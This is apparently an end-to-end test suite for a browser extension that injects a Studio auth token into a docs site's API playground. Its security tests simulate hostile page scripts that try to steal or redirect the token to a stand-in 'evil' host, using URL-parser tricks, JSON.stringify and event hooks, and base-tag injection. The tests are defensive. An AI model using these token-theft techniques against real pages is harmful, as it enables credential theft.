import { describe, expect, test } from 'vitest';
import {
  DOCS_HOST,
  DOCS_ORIGIN,
  EVIL_HOST,
  EVIL_ORIGIN,
  MINTLIFY_PROXY_PATH,
  STUDIO_HOST,
  STUDIO_ORIGIN,
} from '../studio';
import { useExtensionAndStudio, signInThroughPopup } from './harness';
import { OptionsPage } from './options-page';
import { PopupPage } from './popup-page';
import type { TestPage } from './test-browser';

const env = useExtensionAndStudio();
const PROJECTS_URL = `${STUDIO_ORIGIN}/v1/api/projects`;

async function signInAsAlice(): Promise<string> {
  return (await signInThroughPopup(env)).token;
}

async function setAuthenticateDocs(on: boolean): Promise<void> {
  const options = await OptionsPage.open(env.browser);
  await options.authenticateDocs.setChecked(on);
  await options.page.waitForFunction(async (expected) => {
    const settings = (await chrome.runtime.sendMessage({ type: 'getSettings', data: null })) as {
      authenticateDocs: boolean;
    };
    return settings.authenticateDocs === expected;
  }, on);
  await options.close();
}

/** Sends a request through the docs site's proxy as Mintlify's playground does, with XHR. */
function tryItThroughProxy(page: TestPage, url: string, header: Record<string, string> = {}) {
  return page.evaluate(
    ({ proxyPath, url, header }) =>
      new Promise<number>((resolve) => {
        const request = new XMLHttpRequest();
        request.open('POST', proxyPath);
        request.setRequestHeader('content-type', 'application/json');
        request.onloadend = () => resolve(request.status);
        request.send(JSON.stringify({ method: 'GET', url, header, query: {} }));
      }),
    { proxyPath: MINTLIFY_PROXY_PATH, url, header },
  );
}

/** Returns the token of the last request that Studio received at a path, through the proxy or not. */
function tokenAtStudio(path = '/v1/api/projects') {
  const request = env.studio.requestsTo(STUDIO_HOST, path).at(-1);
  return request && env.studio.tokenOf(request);
}

/** Returns the toolbar badge's text: `on` while signed in, `!` once the session expired. */
function badgeText(): Promise<string> {
  return env.browser.evaluateInExtension(() => chrome.action.getBadgeText({}));
}

/** Waits until the extension has put the token into the docs tab's page world. */
async function openSignedInDocs(path = '/apis/studio/projects'): Promise<TestPage> {
  const page = await env.browser.newPage(`${DOCS_ORIGIN}${path}`);
  await page.getByRole('status').filter({ hasText: 'signed in as alice' }).waitFor();
  return page;
}

describe('API reference in proxy mode', () => {
  test('off by default: Studio gets no token through the proxy', async () => {
    await signInAsAlice();
    const page = await env.browser.newPage(`${DOCS_ORIGIN}/apis/studio/projects`);

    expect(await tryItThroughProxy(page, PROJECTS_URL)).toBe(401);
    expect(tokenAtStudio()).toBeUndefined();
  });

  test('on: Studio gets the token through the proxy', async () => {
    const token = await signInAsAlice();
    await setAuthenticateDocs(true);
    const page = await openSignedInDocs();

    expect(await tryItThroughProxy(page, PROJECTS_URL)).toBe(200);
    expect(tokenAtStudio()).toBe(token);
  });

  test('a request to another target is untouched', async () => {
    const token = await signInAsAlice();
    await setAuthenticateDocs(true);
    const page = await openSignedInDocs();

    await tryItThroughProxy(page, `${EVIL_ORIGIN}/v1/api/projects`);
    const request = env.studio.requestsTo(EVIL_HOST, '/v1/api/projects').at(-1);
    expect(request).toBeDefined();
    expect(JSON.stringify(request)).not.toContain(token);
  });

  test('the proxy gets the URL as the check read it', async () => {
    const token = await signInAsAlice();
    await setAuthenticateDocs(true);
    const page = await openSignedInDocs();

    // Parsers that treat a backslash as part of the user name read evil.example as the host.
    await tryItThroughProxy(page, `${STUDIO_ORIGIN}\\@${EVIL_HOST}/v1/api/projects`);
    const request = env.studio.requestsTo(DOCS_HOST, MINTLIFY_PROXY_PATH).at(-1);
    const envelope = JSON.parse(request?.body ?? '{}') as { url?: string };
    expect(envelope.url).toBe(`${STUDIO_ORIGIN}/@${EVIL_HOST}/v1/api/projects`);
    expect(JSON.stringify(envelope)).toContain(token);
  });

  test('a credential the user typed is kept', async () => {
    await signInAsAlice();
    await setAuthenticateDocs(true);
    const page = await openSignedInDocs();

    await tryItThroughProxy(page, PROJECTS_URL, { 'x-api-key': 'ei_alice_stand_in_key' });
    const request = env.studio.requestsTo(STUDIO_HOST, '/v1/api/projects').at(-1);
    expect(request?.headers['x-api-key']).toBe('ei_alice_stand_in_key');
    expect(request?.headers['x-jwt-token']).toBeUndefined();
  });

  test('client-side navigation and reload stay signed in', async () => {
    const token = await signInAsAlice();
    await setAuthenticateDocs(true);
    const page = await openSignedInDocs();

    await page.evaluate(() => history.pushState({}, '', '/apis/studio/jobs'));
    await tryItThroughProxy(page, PROJECTS_URL);
    expect(tokenAtStudio()).toBe(token);
    await page.reload();
    await page.getByRole('status').filter({ hasText: 'signed in as alice' }).waitFor();
    env.studio.clearRequests();
    await tryItThroughProxy(page, PROJECTS_URL);
    expect(tokenAtStudio()).toBe(token);
  });

  test('sign-out stops it in open tabs', async () => {
    await signInAsAlice();
    await setAuthenticateDocs(true);
    const page = await openSignedInDocs();

    const popup = await PopupPage.open(env.browser);
    await popup.signOut();
    await expect.poll(() => page.getByRole('status').count()).toBe(0);
    await tryItThroughProxy(page, PROJECTS_URL);
    expect(tokenAtStudio()).toBeUndefined();
  });

  test('the note can be dismissed', async () => {
    await signInAsAlice();
    await setAuthenticateDocs(true);
    const page = await openSignedInDocs();

    await page.getByRole('button', { name: 'Dismiss' }).click();
    expect(await page.getByRole('status').count()).toBe(0);
  });
});

describe('API reference in direct mode', () => {
  test('Studio gets the header from the docs page', async () => {
    const token = await signInAsAlice();
    const page = await env.browser.newPage(`${DOCS_ORIGIN}/apis/studio/projects`);

    await page.evaluate((url) => fetch(url).then((response) => response.status), PROJECTS_URL);
    expect(tokenAtStudio()).toBe(token);
  });
});

describe('security: API reference authentication', () => {
  test('a page on another host gets nothing injected', async () => {
    await signInAsAlice();
    await setAuthenticateDocs(true);
    await openSignedInDocs();

    const page = await env.browser.newPage(`${EVIL_ORIGIN}/`);
    const fetchIsNative = await page.evaluate(() =>
      Function.prototype.toString.call(fetch).includes('[native code]'),
    );
    expect(fetchIsNative).toBe(true);
    expect(await page.getByRole('status').count()).toBe(0);
  });

  test('page globals hold no token', async () => {
    const token = await signInAsAlice();
    await setAuthenticateDocs(true);
    const page = await openSignedInDocs();

    // What a script on the page finds by walking the global object two levels deep.
    const globals = await page.evaluate(() => {
      const seen: string[] = [];
      const serialize = (value: unknown) => {
        try {
          return JSON.stringify(value) ?? String(value);
        } catch {
          return String(value);
        }
      };
      for (const key of Reflect.ownKeys(globalThis)) {
        const value = (globalThis as Record<PropertyKey, unknown>)[key];
        seen.push(serialize(value));
        if (value && typeof value === 'object') {
          for (const inner of Reflect.ownKeys(value)) {
            seen.push(serialize((value as Record<PropertyKey, unknown>)[inner]));
          }
        }
      }
      return seen.join('\n');
    });
    expect(globals).not.toContain(token);
  });

  test('a proxy path on another host gets no token', async () => {
    const token = await signInAsAlice();
    await setAuthenticateDocs(true);
    const page = await openSignedInDocs();

    await page.evaluate(
      ({ proxy, url }) =>
        fetch(proxy, { method: 'POST', mode: 'no-cors', body: JSON.stringify({ url }) }),
      { proxy: `${EVIL_ORIGIN}${MINTLIFY_PROXY_PATH}`, url: PROJECTS_URL },
    );
    const request = env.studio.requestsTo(EVIL_HOST, MINTLIFY_PROXY_PATH).at(-1);
    expect(request).toBeDefined();
    expect(request?.body).not.toContain(token);
  });

  test('later page scripts cannot redirect a signed request', async () => {
    const token = await signInAsAlice();
    await setAuthenticateDocs(true);
    const page = await openSignedInDocs();

    const captured = await page.evaluate(
      async ({ proxyPath, evil, url }) => {
        const envelope = JSON.stringify({ method: 'GET', url, header: {}, query: {} });
        // A script that runs after the injection replaces JSON.stringify to read what it signs.
        const seen: string[] = [];
        const { stringify } = JSON;
        JSON.stringify = ((value: unknown) => {
          const text = stringify(value);
          seen.push(text);
          return text;
        }) as typeof JSON.stringify;
        // A URL whose text changes between the check and the request.
        let reads = 0;
        const shifty = { toString: () => (reads++ === 0 ? proxyPath : `${evil}/shifty`) };
        await fetch(shifty as unknown as string, { method: 'POST', body: envelope });
        // An XHR whose second open fails after the first named another host.
        const request = new XMLHttpRequest();
        request.open('POST', `${evil}/reopened`);
        try {
          request.open('BAD METHOD', proxyPath);
        } catch {
          // The failed open leaves the request aimed at the first URL.
        }
        await new Promise((resolve) => {
          request.onloadend = resolve;
          request.send(envelope);
        });
        // Injected markup that moves relative URLs to another host.
        const base = document.createElement('base');
        base.href = `${evil}/`;
        document.head.append(base);
        await fetch(proxyPath, { method: 'POST', mode: 'no-cors', body: envelope });
        JSON.stringify = stringify;
        return seen.join('\n');
      },
      { proxyPath: MINTLIFY_PROXY_PATH, evil: EVIL_ORIGIN, url: PROJECTS_URL },
    );
    expect(captured).not.toContain(token);
    const atEvil = env.studio.requestsTo(EVIL_HOST);
    expect(atEvil.map((request) => request.path).sort()).toEqual([
      MINTLIFY_PROXY_PATH,
      '/reopened',
    ]);
    expect(JSON.stringify(atEvil)).not.toContain(token);
  });

  test('page hooks see no token in later injections', async () => {
    const token = await signInAsAlice();
    await setAuthenticateDocs(true);
    const page = await openSignedInDocs();

    // Hooks that a docs script may set after the first injection, without touching prototypes.
    await page.evaluate(() => {
      const seen: unknown[] = [];
      (window as unknown as { seen: unknown[] }).seen = seen;
      const record = (value: unknown) => seen.push(JSON.stringify(value ?? null));
      const dispatch = window.dispatchEvent.bind(window);
      window.dispatchEvent = (event: Event) => {
        record((event as CustomEvent).detail);
        return dispatch(event);
      };
      document.dispatchEvent = window.dispatchEvent;
      window.CustomEvent = class extends CustomEvent<unknown> {
        constructor(type: string, init?: CustomEventInit) {
          super(type, init);
          record(init?.detail);
        }
      } as typeof CustomEvent;
      // Page code that drawing the note runs records the event in progress, if any.
      const inEvent = () => {
        const event = window.event as CustomEvent | undefined;
        record(event && { type: event.type, detail: event.detail as unknown });
      };
      const root = Object.getOwnPropertyDescriptor(Document.prototype, 'documentElement')!.get!;
      Object.defineProperty(document, 'documentElement', {
        configurable: true,
        get() {
          inEvent();
          return root.call(document) as HTMLElement;
        },
      });
      const create = document.createElement.bind(document);
      document.createElement = ((name: string) => {
        inEvent();
        return create(name);
      }) as typeof document.createElement;
      customElements.define(
        'ei-session-note',
        class extends HTMLElement {
          connectedCallback() {
            record((window.event as CustomEvent | undefined)?.detail);
          }
        },
      );
      // A forged pagehide must not make the next injection draw a note.
      window.dispatchEvent(new Event('pagehide'));
      location.hash = 'again';
    });
    await setAuthenticateDocs(false);
    await expect.poll(() => page.getByRole('status').count()).toBe(0);
    await setAuthenticateDocs(true);
    await page.getByRole('status').filter({ hasText: 'signed in as alice' }).waitFor();

    const seen = await page.evaluate(() => (window as unknown as { seen: string[] }).seen);
    expect(seen.join('\n')).not.toContain(token);
    // Nor does the page learn the event type that would let it listen for the next token.
    expect(seen.join('\n')).not.toContain('ei-session-');
  });

  test('a page the background cannot reach stops at the session end', async () => {
    // The session ends a minute before the token expires: 10 seconds after sign-in.
    env.studio.setTokenLifetime(70);
    const token = await signInAsAlice();
    await setAuthenticateDocs(true);
    const page = await openSignedInDocs();
    expect(await tryItThroughProxy(page, PROJECTS_URL)).toBe(200);
    expect(tokenAtStudio()).toBe(token);

    // Without host access the background cannot clear the page when the session ends.
    await env.browser.withholdSiteAccess();
    expect(await badgeText()).toBe('on');
    await expect.poll(badgeText, { timeout: 20_000 }).toBe('!');
    env.studio.clearRequests();
    await tryItThroughProxy(page, PROJECTS_URL);
    expect(tokenAtStudio()).toBeUndefined();
  });

  test('a page restored after sign-out sends no token', async () => {
    await signInAsAlice();
    await setAuthenticateDocs(true);
    const page = await openSignedInDocs();
    await page.evaluate((url) => location.assign(url), `${EVIL_ORIGIN}/next`);
    await page.waitForURL(`${EVIL_ORIGIN}/next`);

    const popup = await PopupPage.open(env.browser);
    await popup.signOut();
    await popup.close();
    // Firefox restores the docs page from its back-forward cache, with its scripts' state.
    await page.evaluate(() => history.back());
    await page.waitForURL(`${DOCS_ORIGIN}/apis/studio/projects`);
    env.studio.clearRequests();
    await tryItThroughProxy(page, PROJECTS_URL);
    expect(tokenAtStudio()).toBeUndefined();
    expect(await page.getByRole('status').count()).toBe(0);
  });

  test('the docs tab shows the API badge', async () => {
    await signInAsAlice();
    await setAuthenticateDocs(true);
    const page = await openSignedInDocs();
    const badge = await env.browser.evaluateInExtension(async (url) => {
      const [tab] = await chrome.tabs.query({ url });
      return chrome.action.getBadgeText({ tabId: tab?.id });
    }, page.url());
    expect(badge).toBe('API');
  });
});
